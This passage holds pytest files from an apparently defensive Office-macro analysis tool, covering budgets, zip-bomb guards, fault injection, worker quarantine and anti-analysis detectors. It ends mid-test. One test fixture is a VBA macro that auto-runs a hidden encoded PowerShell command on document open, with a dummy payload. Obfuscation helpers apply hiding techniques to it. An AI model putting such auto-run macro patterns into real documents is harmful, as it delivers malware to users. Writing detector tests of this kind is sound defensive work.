"""Budget enforcement: refusal, deadlines, watchdog, and output caps.

Every violation must *degrade* the record — never raise, never lose the
document — and leave an auditable ``budget`` diagnostic plus counters.
"""

import time

import pytest

from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.resilience import (
    Budget,
    DEFAULT_BUDGET,
    Fault,
    FaultPlan,
    StageTimeout,
    call_with_timeout,
)


class TestBudgetClock:
    def test_fresh_clock_is_not_expired(self):
        assert not DEFAULT_BUDGET.clock().expired()

    def test_no_wall_clock_never_expires(self):
        clock = Budget(wall_clock_s=None).clock()
        assert not clock.expired()

    def test_zero_wall_clock_expires_immediately(self):
        clock = Budget(wall_clock_s=0.0).clock()
        time.sleep(0.001)
        assert clock.expired()

    def test_stage_timeout_clipped_to_remaining_wall_clock(self):
        clock = Budget(wall_clock_s=100.0, stage_timeout_s=5.0).clock()
        assert clock.stage_timeout() == pytest.approx(5.0, abs=0.5)
        clock = Budget(wall_clock_s=0.0, stage_timeout_s=5.0).clock()
        assert clock.stage_timeout() == pytest.approx(0.001, abs=0.01)

    def test_stage_timeout_none_when_unset(self):
        assert DEFAULT_BUDGET.clock().stage_timeout() is None


class TestCallWithTimeout:
    def test_returns_result(self):
        assert call_with_timeout(lambda: 42, timeout=5.0) == 42

    def test_reraises_callable_exception(self):
        def boom():
            raise KeyError("inner")

        with pytest.raises(KeyError):
            call_with_timeout(boom, timeout=5.0)

    def test_raises_stage_timeout_on_hang(self):
        started = time.perf_counter()
        with pytest.raises(StageTimeout):
            call_with_timeout(lambda: time.sleep(10), timeout=0.05)
        assert time.perf_counter() - started < 5.0


class TestInputRefusal:
    def test_oversized_input_refused_before_extraction(self, document_factory):
        [(sid, data)] = document_factory(1)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(
            metrics=registry, budget=Budget(max_input_bytes=16)
        )
        record = engine.run((sid, data))
        assert record.degraded
        assert not record.ok
        assert record.completed_stages == []
        assert "refused before extraction" in record.error
        assert registry.counter("budget.input_rejected").value == 1

    def test_input_within_budget_passes(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(
            budget=Budget(max_input_bytes=len(data))
        )
        record = engine.run((sid, data))
        assert record.ok and not record.degraded


class TestWallClock:
    def test_exhausted_wall_clock_degrades_and_stops(self, document_factory):
        [(sid, data)] = document_factory(1)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(
            metrics=registry, budget=Budget(wall_clock_s=0.0)
        )
        record = engine.run((sid, data))
        assert record.degraded
        assert record.completed_stages == []
        assert "wall-clock budget" in record.error
        assert registry.counter("budget.timeouts").value >= 1

    def test_no_budget_disables_every_check(self, document_factory):
        [(sid, data)] = document_factory(1)
        record = AnalysisEngine.for_extraction(budget=None).run((sid, data))
        assert record.ok and not record.degraded


class TestStageWatchdog:
    def test_hung_stage_is_abandoned_and_degrades(self, document_factory):
        [(sid, data)] = document_factory(1)
        plan = FaultPlan(faults=(Fault("hang", sid),), hang_s=30.0)
        engine = AnalysisEngine.for_extraction(
            budget=Budget(stage_timeout_s=0.2), chaos=plan
        )
        started = time.perf_counter()
        record = engine.run((sid, data))
        assert time.perf_counter() - started < 10.0
        assert record.degraded
        assert "hard timeout" in record.error
        assert "extract" in record.completed_stages
        assert "chaos" not in record.completed_stages

    def test_watchdog_passes_healthy_stages(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(budget=Budget(stage_timeout_s=10.0))
        record = engine.run((sid, data))
        assert record.ok and not record.degraded
        assert "extract" in record.completed_stages


class TestOutputCaps:
    def test_macro_count_cap_stubs_surplus(self, document_factory):
        [(sid, data)] = document_factory(1)
        plan = FaultPlan(faults=(Fault("oversize", sid),), oversize_bytes=64)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(
            metrics=registry, budget=Budget(max_macro_count=1), chaos=plan
        )
        record = engine.run((sid, data))
        assert record.degraded
        kept = [m for m in record.macros if m.filtered != "budget"]
        dropped = [m for m in record.macros if m.filtered == "budget"]
        assert len(kept) == 1
        assert dropped and all(m.source == "" for m in dropped)
        assert registry.counter("budget.macros_dropped").value == len(dropped)

    def test_output_bytes_cap_drops_flood(self, document_factory):
        [(sid, data)] = document_factory(1)
        plan = FaultPlan(faults=(Fault("oversize", sid),), oversize_bytes=4096)
        engine = AnalysisEngine.for_extraction(
            budget=Budget(max_output_bytes=1024), chaos=plan
        )
        record = engine.run((sid, data))
        assert record.degraded
        assert "over budget" in record.error
        assert any(m.filtered == "budget" for m in record.macros)
        kept_chars = sum(
            len(m.source) for m in record.macros if m.filtered != "budget"
        )
        assert kept_chars <= 1024


class TestRecordSchema:
    def test_to_dict_carries_resilience_fields(self, document_factory):
        [(sid, data)] = document_factory(1)
        payload = AnalysisEngine.for_extraction().run((sid, data)).to_dict()
        assert payload["degraded"] is False
        assert "extract" in payload["completed_stages"]
        assert payload["quarantine"] is None

    def test_degraded_record_is_cached(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(budget=Budget(max_input_bytes=16))
        first = engine.run((sid, data))
        second = engine.run((sid, data))
        assert first.degraded and second.degraded
        assert engine.cache_info()["hits"] == 1


class TestBudgetPresets:
    def test_presets_cover_the_cli_choices(self):
        from repro.resilience import (
            BUDGET_PRESETS,
            DEFAULT_BUDGET,
            STRICT_BUDGET,
            UNLIMITED_BUDGET,
        )

        assert BUDGET_PRESETS == {
            "default": DEFAULT_BUDGET,
            "strict": STRICT_BUDGET,
            "off": UNLIMITED_BUDGET,
        }

    def test_strict_is_uniformly_tighter_than_default(self):
        from repro.resilience import DEFAULT_BUDGET, STRICT_BUDGET

        assert STRICT_BUDGET.wall_clock_s < DEFAULT_BUDGET.wall_clock_s
        assert STRICT_BUDGET.stage_timeout_s is not None
        assert DEFAULT_BUDGET.stage_timeout_s is None  # watchdog is opt-in
        assert STRICT_BUDGET.max_input_bytes < DEFAULT_BUDGET.max_input_bytes
        assert STRICT_BUDGET.max_macro_count < DEFAULT_BUDGET.max_macro_count
        assert STRICT_BUDGET.max_output_bytes < DEFAULT_BUDGET.max_output_bytes

    def test_unlimited_budget_never_expires(self):
        from repro.resilience import UNLIMITED_BUDGET

        clock = UNLIMITED_BUDGET.clock()
        assert not clock.expired()
        assert clock.stage_timeout() is None
