"""Archive expansion and its zip-bomb guards."""

import io
import zipfile

import pytest

from repro.obs import MetricsRegistry
from repro.resilience import (
    ArchiveBombError,
    ArchiveLimits,
    expand_archive,
    is_plain_archive,
)


def make_zip(members: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compress) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


class TestIsPlainArchive:
    def test_plain_zip_is_an_archive(self):
        assert is_plain_archive(make_zip({"a.docm": b"x", "b/c.txt": b"y"}))

    def test_ooxml_document_is_not_an_archive(self, document_factory):
        [(_, docm)] = document_factory(1)
        assert not is_plain_archive(docm)

    def test_bare_vba_project_zip_is_not_an_archive(self):
        assert not is_plain_archive(make_zip({"word/vbaProject.bin": b"\x01"}))

    def test_non_zip_bytes_are_not_an_archive(self):
        assert not is_plain_archive(b"MZ\x90\x00 garbage")
        assert not is_plain_archive(b"")

    def test_corrupt_zip_is_not_an_archive(self):
        data = bytearray(make_zip({"a": b"x"}))
        eocd = data.rfind(b"PK\x05\x06")  # smash the end-of-central-directory
        data[eocd : eocd + 4] = b"\x00\x00\x00\x00"
        assert not is_plain_archive(bytes(data))


class TestExpansion:
    def test_members_become_tagged_inputs(self):
        data = make_zip({"inner/sample.docm": b"DOC", "notes.txt": b"N"})
        expanded = expand_archive("feed.zip", data)
        assert sorted(expanded) == [
            ("feed.zip!inner/sample.docm", b"DOC"),
            ("feed.zip!notes.txt", b"N"),
        ]

    def test_directory_entries_are_skipped(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("dir/", b"")
            archive.writestr("dir/file.bin", b"F")
        expanded = expand_archive("a.zip", buffer.getvalue())
        assert expanded == [("a.zip!dir/file.bin", b"F")]

    def test_metrics_counters(self):
        registry = MetricsRegistry()
        expand_archive("a.zip", make_zip({"x": b"1", "y": b"2"}), metrics=registry)
        assert registry.counter("archive.expanded").value == 1
        assert registry.counter("archive.members").value == 2


class TestBombGuards:
    def test_member_count_cap(self):
        data = make_zip({f"m{i}": b"x" for i in range(5)})
        with pytest.raises(ArchiveBombError, match="member cap"):
            expand_archive("a.zip", data, ArchiveLimits(max_members=4))

    def test_member_size_cap_checked_before_inflating(self):
        data = make_zip({"big.bin": b"A" * 4096})
        with pytest.raises(ArchiveBombError, match="declares"):
            expand_archive("a.zip", data, ArchiveLimits(max_member_bytes=1024))

    def test_compression_ratio_cap(self):
        data = make_zip({"zeros.bin": b"\x00" * (1 << 20)})
        with pytest.raises(ArchiveBombError, match="expands"):
            expand_archive("a.zip", data, ArchiveLimits(max_ratio=100.0))

    def test_total_expanded_bytes_cap(self):
        data = make_zip({f"m{i}": bytes(600) for i in range(4)})
        with pytest.raises(ArchiveBombError, match="declared total"):
            expand_archive(
                "a.zip", data,
                ArchiveLimits(max_total_bytes=2000, max_ratio=None),
            )

    def test_expansion_is_all_or_nothing(self):
        # One innocent member plus one bomb: nothing comes out.
        data = make_zip({"ok.txt": b"fine", "bomb.bin": b"\x00" * (1 << 20)})
        with pytest.raises(ArchiveBombError):
            expand_archive("a.zip", data, ArchiveLimits(max_ratio=100.0))

    def test_unreadable_bytes_raise(self):
        with pytest.raises(ArchiveBombError, match="unreadable archive"):
            expand_archive("a.zip", b"not a zip at all")

    def test_disabled_guards_allow_expansion(self):
        data = make_zip({"zeros.bin": b"\x00" * (1 << 20)})
        limits = ArchiveLimits(
            max_members=None, max_member_bytes=None,
            max_total_bytes=None, max_ratio=None,
        )
        [(name, payload)] = expand_archive("a.zip", data, limits)
        assert name == "a.zip!zeros.bin"
        assert payload == b"\x00" * (1 << 20)
