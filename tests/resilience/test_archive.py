"""Archive expansion and its zip-bomb guards."""

import io
import tarfile
import zipfile

import pytest

from repro.obs import MetricsRegistry
from repro.resilience import (
    ArchiveBombError,
    ArchiveLimits,
    expand_archive,
    is_plain_archive,
    is_tar_archive,
)


def make_zip(members: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compress) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def make_tar(members: dict[str, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


class TestIsPlainArchive:
    def test_plain_zip_is_an_archive(self):
        assert is_plain_archive(make_zip({"a.docm": b"x", "b/c.txt": b"y"}))

    def test_ooxml_document_is_not_an_archive(self, document_factory):
        [(_, docm)] = document_factory(1)
        assert not is_plain_archive(docm)

    def test_bare_vba_project_zip_is_not_an_archive(self):
        assert not is_plain_archive(make_zip({"word/vbaProject.bin": b"\x01"}))

    def test_non_zip_bytes_are_not_an_archive(self):
        assert not is_plain_archive(b"MZ\x90\x00 garbage")
        assert not is_plain_archive(b"")

    def test_corrupt_zip_is_not_an_archive(self):
        data = bytearray(make_zip({"a": b"x"}))
        eocd = data.rfind(b"PK\x05\x06")  # smash the end-of-central-directory
        data[eocd : eocd + 4] = b"\x00\x00\x00\x00"
        assert not is_plain_archive(bytes(data))


class TestExpansion:
    def test_members_become_tagged_inputs(self):
        data = make_zip({"inner/sample.docm": b"DOC", "notes.txt": b"N"})
        expanded = expand_archive("feed.zip", data)
        assert sorted(expanded) == [
            ("feed.zip!inner/sample.docm", b"DOC"),
            ("feed.zip!notes.txt", b"N"),
        ]

    def test_directory_entries_are_skipped(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("dir/", b"")
            archive.writestr("dir/file.bin", b"F")
        expanded = expand_archive("a.zip", buffer.getvalue())
        assert expanded == [("a.zip!dir/file.bin", b"F")]

    def test_metrics_counters(self):
        registry = MetricsRegistry()
        expand_archive("a.zip", make_zip({"x": b"1", "y": b"2"}), metrics=registry)
        assert registry.counter("archive.expanded").value == 1
        assert registry.counter("archive.members").value == 2


class TestBombGuards:
    def test_member_count_cap(self):
        data = make_zip({f"m{i}": b"x" for i in range(5)})
        with pytest.raises(ArchiveBombError, match="member cap"):
            expand_archive("a.zip", data, ArchiveLimits(max_members=4))

    def test_member_size_cap_checked_before_inflating(self):
        data = make_zip({"big.bin": b"A" * 4096})
        with pytest.raises(ArchiveBombError, match="declares"):
            expand_archive("a.zip", data, ArchiveLimits(max_member_bytes=1024))

    def test_compression_ratio_cap(self):
        data = make_zip({"zeros.bin": b"\x00" * (1 << 20)})
        with pytest.raises(ArchiveBombError, match="expands"):
            expand_archive("a.zip", data, ArchiveLimits(max_ratio=100.0))

    def test_total_expanded_bytes_cap(self):
        data = make_zip({f"m{i}": bytes(600) for i in range(4)})
        with pytest.raises(ArchiveBombError, match="declared total"):
            expand_archive(
                "a.zip", data,
                ArchiveLimits(max_total_bytes=2000, max_ratio=None),
            )

    def test_expansion_is_all_or_nothing(self):
        # One innocent member plus one bomb: nothing comes out.
        data = make_zip({"ok.txt": b"fine", "bomb.bin": b"\x00" * (1 << 20)})
        with pytest.raises(ArchiveBombError):
            expand_archive("a.zip", data, ArchiveLimits(max_ratio=100.0))

    def test_unreadable_bytes_raise(self):
        with pytest.raises(ArchiveBombError, match="unreadable archive"):
            expand_archive("a.zip", b"not a zip at all")

    def test_disabled_guards_allow_expansion(self):
        data = make_zip({"zeros.bin": b"\x00" * (1 << 20)})
        limits = ArchiveLimits(
            max_members=None, max_member_bytes=None,
            max_total_bytes=None, max_ratio=None,
        )
        [(name, payload)] = expand_archive("a.zip", data, limits)
        assert name == "a.zip!zeros.bin"
        assert payload == b"\x00" * (1 << 20)


class TestIsTarArchive:
    def test_plain_and_gzipped_tars_are_recognized(self):
        assert is_tar_archive(make_tar({"a.docm": b"x"}))
        assert is_tar_archive(make_tar({"a.docm": b"x"}, mode="w:gz"))

    def test_non_tar_bytes_are_not_a_tar(self):
        assert not is_tar_archive(b"")
        assert not is_tar_archive(b"MZ\x90\x00 garbage" + b"\x00" * 600)
        assert not is_tar_archive(make_zip({"a": b"x"}))

    def test_truncated_tar_is_not_a_tar(self):
        data = make_tar({"a.docm": b"x" * 100})
        assert not is_tar_archive(data[:300])


class TestTarExpansion:
    def test_tar_members_become_tagged_inputs(self):
        data = make_tar({"inner/sample.docm": b"DOC", "notes.txt": b"N"})
        expanded = expand_archive("feed.tar", data)
        assert sorted(expanded) == [
            ("feed.tar!inner/sample.docm", b"DOC"),
            ("feed.tar!notes.txt", b"N"),
        ]

    def test_gzipped_tar_expands(self):
        data = make_tar({"sample.docm": b"DOC"}, mode="w:gz")
        assert expand_archive("feed.tar.gz", data) == [
            ("feed.tar.gz!sample.docm", b"DOC")
        ]

    def test_tar_member_count_cap(self):
        data = make_tar({f"m{i}": b"x" for i in range(5)})
        with pytest.raises(ArchiveBombError, match="member cap"):
            expand_archive("a.tar", data, ArchiveLimits(max_members=4))

    def test_tar_member_size_cap(self):
        data = make_tar({"big.bin": b"A" * 4096})
        with pytest.raises(ArchiveBombError, match="declares"):
            expand_archive("a.tar", data, ArchiveLimits(max_member_bytes=1024))

    def test_gzipped_tar_whole_archive_ratio_cap(self):
        data = make_tar({"zeros.bin": b"\x00" * (1 << 20)}, mode="w:gz")
        with pytest.raises(ArchiveBombError, match="expands"):
            expand_archive("a.tar.gz", data, ArchiveLimits(max_ratio=100.0))

    def test_uncompressed_tar_skips_ratio_guard(self):
        # No compression -> no amplification; the ratio guard is a
        # gzip-only concern for tars.
        data = make_tar({"zeros.bin": b"\x00" * 4096})
        limits = ArchiveLimits(max_ratio=1.0)
        [(_, payload)] = expand_archive("a.tar", data, limits)
        assert payload == b"\x00" * 4096


class TestNestedExpansion:
    def test_zip_in_zip_expands_one_level(self):
        inner = make_zip({"deep.docm": b"DOC"})
        outer = make_zip({"inner.zip": inner, "flat.txt": b"F"})
        expanded = expand_archive("feed.zip", outer)
        assert sorted(expanded) == [
            ("feed.zip!flat.txt", b"F"),
            ("feed.zip!inner.zip!deep.docm", b"DOC"),
        ]

    def test_tar_in_zip_and_zip_in_tar(self):
        inner_tar = make_tar({"a.docm": b"A"})
        expanded = expand_archive("o.zip", make_zip({"in.tar": inner_tar}))
        assert expanded == [("o.zip!in.tar!a.docm", b"A")]
        inner_zip = make_zip({"b.docm": b"B"})
        expanded = expand_archive("o.tar", make_tar({"in.zip": inner_zip}))
        assert expanded == [("o.tar!in.zip!b.docm", b"B")]

    def test_second_nesting_level_passes_through(self):
        innermost = make_zip({"x.docm": b"X"})
        middle = make_zip({"inner.zip": innermost})
        outer = make_zip({"middle.zip": middle})
        [(name, payload)] = expand_archive("feed.zip", outer)
        # Depth 2 is beyond max_depth=1: the innermost zip rides through
        # as an ordinary input, bytes untouched.
        assert name == "feed.zip!middle.zip!inner.zip"
        assert payload == innermost

    def test_ooxml_document_inside_archive_is_not_reexpanded(
        self, document_factory
    ):
        [(_, docm)] = document_factory(1)
        [(name, payload)] = expand_archive(
            "feed.zip", make_zip({"doc.docm": docm})
        )
        assert name == "feed.zip!doc.docm"
        assert payload == docm

    def test_nested_metrics_counters(self):
        registry = MetricsRegistry()
        inner = make_zip({"a.docm": b"A", "b.docm": b"B"})
        outer = make_zip({"inner.zip": inner, "flat.txt": b"F"})
        expand_archive("feed.zip", outer, metrics=registry)
        assert registry.counter("archive.expanded").value == 1
        assert registry.counter("archive.members").value == 3
        assert registry.counter("archive.nested_expanded").value == 1
        assert registry.counter("archive.nested_members").value == 2

    def test_flat_expansion_emits_no_nested_counters(self):
        registry = MetricsRegistry()
        expand_archive("a.zip", make_zip({"x": b"1"}), metrics=registry)
        assert registry.counter("archive.nested_expanded").value == 0

    def test_member_cap_is_cumulative_across_nesting(self):
        inner = make_zip({f"m{i}": b"x" for i in range(3)})
        outer = make_zip({"inner.zip": inner, "a": b"1", "b": b"2"})
        # 3 outer members and 3 nested members: each archive is under the
        # per-archive cap of 4, but the whole expansion is not.
        with pytest.raises(ArchiveBombError, match="across nested expansion"):
            expand_archive("a.zip", outer, ArchiveLimits(max_members=4))

    def test_byte_budget_is_cumulative_across_nesting(self):
        inner = make_zip({"big.bin": bytes(1500)})
        outer = make_zip({"inner.zip": inner, "pad.bin": bytes(1500)})
        with pytest.raises(ArchiveBombError, match="declared total"):
            expand_archive(
                "a.zip", outer,
                ArchiveLimits(max_total_bytes=2500, max_ratio=None),
            )

    def test_nested_bomb_fails_whole_expansion(self):
        bomb = make_zip({"zeros.bin": b"\x00" * (1 << 20)})
        outer = make_zip({"ok.txt": b"fine", "bomb.zip": bomb})
        with pytest.raises(ArchiveBombError):
            expand_archive("a.zip", outer, ArchiveLimits(max_ratio=100.0))
