"""The fault-injection harness itself: plans, matching, and in-process faults."""

import pytest

from repro.engine import AnalysisEngine
from repro.engine.records import DocumentRecord
from repro.resilience import ChaosStage, Fault, FaultPlan


class TestFaultPlanParsing:
    def test_parse_single_entry(self):
        plan = FaultPlan.parse("raise:doc_001")
        assert plan.faults == (Fault("raise", "doc_001"),)

    def test_parse_multiple_entries(self):
        plan = FaultPlan.parse("hang:doc_007, exit:doc_013 ,oversize:doc_002")
        assert [f.kind for f in plan.faults] == ["hang", "exit", "oversize"]
        assert [f.match for f in plan.faults] == ["doc_007", "doc_013", "doc_002"]

    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError, match="unknown fault kind"):
            FaultPlan.parse("explode:doc_001")

    def test_missing_separator_rejected(self):
        with pytest.raises(ValueError, match="kind:pattern"):
            FaultPlan.parse("raise")

    def test_empty_plan_rejected(self):
        with pytest.raises(ValueError, match="empty fault plan"):
            FaultPlan.parse(" , ")

    def test_empty_match_rejected(self):
        with pytest.raises(ValueError, match="non-empty"):
            Fault("raise", "")


class TestFaultMatching:
    def test_substring_match(self):
        plan = FaultPlan.parse("raise:doc_003")
        assert plan.fault_for("/feed/doc_003.docm").kind == "raise"
        assert plan.fault_for("/feed/doc_004.docm") is None

    def test_first_matching_fault_wins(self):
        plan = FaultPlan.parse("hang:doc,exit:doc_001")
        assert plan.fault_for("doc_001").kind == "hang"


class TestInProcessFaults:
    def test_raise_fault_degrades_record(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(chaos=FaultPlan.parse(f"raise:{sid}"))
        record = engine.run((sid, data))
        assert record.degraded
        assert "ChaosError" in record.error
        assert "extract" in record.completed_stages
        assert "chaos" not in record.completed_stages

    def test_exit_fault_downgrades_to_raise_in_parent(self, document_factory):
        # os._exit in the CLI parent would kill the whole run; in-process the
        # fault must degrade the record instead (the process demonstrably
        # survives to make these assertions).
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(chaos=FaultPlan.parse(f"exit:{sid}"))
        record = engine.run((sid, data))
        assert record.degraded
        assert "ChaosError" in record.error

    def test_unmatched_documents_flow_through_clean(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(chaos=FaultPlan.parse("raise:no-such-doc"))
        record = engine.run((sid, data))
        assert record.ok and not record.degraded
        assert "chaos" in record.completed_stages

    def test_oversize_fault_appends_flood_macro(self):
        sid = "doc_000"
        plan = FaultPlan(faults=(Fault("oversize", sid),), oversize_bytes=128)
        record = DocumentRecord(source_id=sid)
        ChaosStage(plan).process(record)
        assert record.macros[-1].module_name == "ChaosOversize"
        assert len(record.macros[-1].source) == 128

    def test_chaos_stage_is_spliced_after_extract(self):
        engine = AnalysisEngine.for_extraction(chaos=FaultPlan.parse("raise:x"))
        names = [stage.name for stage in engine.stages]
        assert names.index("chaos") == names.index("extract") + 1
