"""Pool-death recovery: per-task blame, bounded retries, quarantine,
N-in/N-out.

These tests kill real pool workers (``os._exit`` via the chaos stage), so
they run real ``BrokenProcessPool`` failures — nothing is mocked except
the backoff sleep.  Since the streaming pool dispatches one task per
worker, a dead worker indicts exactly the document it was holding; no
bisection rounds happen (or are asserted) anywhere here.
"""

import json

import pytest

from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.resilience import (
    DEFAULT_RETRY,
    FaultPlan,
    RetryPolicy,
    quarantine_record,
    quarantine_report,
)
from repro.resilience import recovery as recovery_module
from repro.engine.records import DocumentRecord
from repro.engine.stages import Stage


@pytest.fixture()
def recorded_sleeps(monkeypatch):
    """Capture backoff sleeps instead of waiting them out."""
    delays = []
    monkeypatch.setattr(recovery_module, "_sleep", delays.append)
    return delays


class TestRetryPolicy:
    def test_backoff_is_exponential_then_capped(self):
        policy = RetryPolicy(backoff_base_s=0.1, backoff_cap_s=0.5)
        assert policy.backoff(0) == pytest.approx(0.1)
        assert policy.backoff(1) == pytest.approx(0.2)
        assert policy.backoff(2) == pytest.approx(0.4)
        assert policy.backoff(3) == pytest.approx(0.5)
        assert policy.backoff(10) == pytest.approx(0.5)


class TestWorkerDeathRecovery:
    def test_poison_input_is_quarantined_others_survive(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(6)
        poison_id = pairs[3][0]
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{poison_id}")
        )
        records = engine.run_batch(pairs, jobs=2)

        assert len(records) == len(pairs)  # N in, N out
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]
        by_id = {r.source_id: r for r in records}
        poisoned = by_id.pop(poison_id)
        assert poisoned.quarantine is not None
        assert poisoned.quarantine["retriable"] is True
        assert poisoned.quarantine["stage"] == "pool"
        assert poisoned.quarantine["attempts"] == DEFAULT_RETRY.max_attempts
        assert poisoned.degraded and not poisoned.ok
        for record in by_id.values():
            assert record.ok and not record.degraded

    def test_retries_are_bounded_by_backoff_cap(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(4)
        policy = RetryPolicy(max_attempts=3, backoff_base_s=0.01, backoff_cap_s=0.02)
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{pairs[0][0]}")
        )
        engine.retry = policy
        records = engine.run_batch(pairs, jobs=2)
        assert len(records) == len(pairs)
        # The blamed task is retried max_attempts - 1 times, each preceded
        # by one capped backoff sleep.
        assert len(recorded_sleeps) == policy.max_attempts - 1
        assert all(delay <= policy.backoff_cap_s for delay in recorded_sleeps)

    def test_failure_and_quarantine_counters(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(6)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(
            metrics=registry, chaos=FaultPlan.parse(f"exit:{pairs[2][0]}")
        )
        records = engine.run_batch(pairs, jobs=2)
        assert len(records) == len(pairs)
        assert registry.counter("resilience.pool_failures").value >= 1
        assert registry.counter("resilience.quarantined").value == 1
        assert registry.counter("resilience.retries").value == (
            DEFAULT_RETRY.max_attempts - 1
        )
        # Blame is structural now; bisection never runs.
        assert "resilience.bisections" not in registry.to_dict()["counters"]

    def test_quarantined_content_is_never_cached(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(4)
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{pairs[1][0]}")
        )
        records = engine.run_batch(pairs, jobs=2)
        quarantined = [r for r in records if r.quarantine is not None]
        assert len(quarantined) == 1
        assert quarantined[0].sha256 not in engine._cache

    def test_duplicates_of_poison_all_get_records(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(3)
        poison_id, poison_data = pairs[1]
        inputs = pairs + [(poison_id, poison_data)]  # same content twice
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{poison_id}")
        )
        records = engine.run_batch(inputs, jobs=2)
        assert len(records) == len(inputs)
        assert sum(1 for r in records if r.quarantine is not None) == 2


class PoisonResultStage(Stage):
    """Attach an unpicklable payload so the worker's *result* cannot travel
    back — the attributable-failure path, no pool death involved."""

    name = "poison-result"

    def __init__(self, match: str) -> None:
        self.match = match

    def process(self, document: DocumentRecord) -> None:
        if self.match in document.source_id:
            document.document_variables[self.match] = lambda: None


class TestAttributableFailures:
    def test_unpicklable_result_quarantines_only_its_target(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(5)
        target = pairs[2][0]
        engine = AnalysisEngine.for_extraction()
        engine.stages.append(PoisonResultStage(target))
        records = engine.run_batch(pairs, jobs=2)
        assert len(records) == len(pairs)
        by_id = {r.source_id: r for r in records}
        assert by_id[target].quarantine is not None
        for sid, _ in pairs:
            if sid != target:
                assert by_id[sid].ok


class TestQuarantineRecords:
    def test_record_serializes_to_json(self):
        record = quarantine_record(
            "feed/doc.docm", "ab" * 32, "BrokenProcessPool: worker died",
            attempts=3,
        )
        payload = json.loads(json.dumps(record.to_dict()))
        assert payload["degraded"] is True
        assert payload["ok"] is False
        assert payload["quarantine"]["attempts"] == 3
        assert payload["quarantine"]["retriable"] is True
        assert "quarantined after 3 attempts" in payload["error"]

    def test_report_separates_quarantined_from_degraded(self, document_factory):
        [(sid, data)] = document_factory(1)
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"raise:{sid}")
        )
        degraded = engine.run((sid, data))
        quarantined = quarantine_record("bad.docm", None, "poison", attempts=2)
        report = quarantine_report([degraded, quarantined])
        assert report["total_records"] == 2
        assert report["quarantined_count"] == 1
        assert report["degraded_count"] == 1
        assert report["quarantined"][0]["path"] == "bad.docm"
        assert report["degraded"][0]["path"] == sid
        json.dumps(report)  # the artifact must always be serializable
