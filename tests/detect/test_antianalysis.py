"""Tests for the anti-analysis technique detectors."""

from repro.detect import scan_macro
from repro.obfuscation.antianalysis import (
    BrokenCodeInserter,
    FlowChanger,
    StringHider,
)
from repro.obfuscation.base import make_context

CLEAN = (
    "Sub Tidy()\n"
    "    Dim i As Long\n"
    "    For i = 1 To 10\n"
    "        Cells(i, 1).Value = i\n"
    "    Next i\n"
    "End Sub\n"
)

PAYLOAD = (
    "Sub Document_Open()\n"
    "    Dim cmd As String\n"
    '    cmd = "powershell -enc AAAA and some more payload"\n'
    "    Shell cmd, 0\n"
    "End Sub\n"
)


class TestCleanCode:
    def test_clean_macro_has_no_findings(self):
        report = scan_macro(CLEAN)
        assert not report.suspicious
        assert report.techniques == set()

    def test_ordinary_userform_use_is_reported_but_typed(self):
        # Reading captions is the hidden-string channel; the detector flags
        # it and downstream logic decides what to do with the signal.
        source = "Sub A()\n    x = UserForm1.Label1.Caption\nEnd Sub\n"
        report = scan_macro(source)
        assert report.techniques == {"hidden_strings"}


class TestHiddenStrings:
    def test_string_hider_output_detected(self):
        context = make_context(3)
        hidden = StringHider(hide_probability=1.0, min_length=4).apply(
            PAYLOAD, context
        )
        report = scan_macro(hidden)
        assert "hidden_strings" in report.techniques
        assert any("document-storage read" in f.detail for f in report.findings)

    def test_document_variables_pattern(self):
        source = (
            "Sub A()\n"
            '    x = ActiveDocument.Variables("k").Value()\n'
            "End Sub\n"
        )
        assert "hidden_strings" in scan_macro(source).techniques


class TestBrokenCode:
    def test_broken_code_inserter_output_detected(self):
        out = BrokenCodeInserter().apply(PAYLOAD, make_context(5))
        report = scan_macro(out)
        assert "broken_code" in report.techniques

    def test_exit_sub_without_broken_code_is_fine(self):
        source = (
            "Sub A()\n"
            "    x = 1\n"
            "    Exit Sub\n"
            "    x = 2\n"
            "End Sub\n"
        )
        assert "broken_code" not in scan_macro(source).techniques

    def test_broken_code_without_exit_not_flagged_as_this_technique(self):
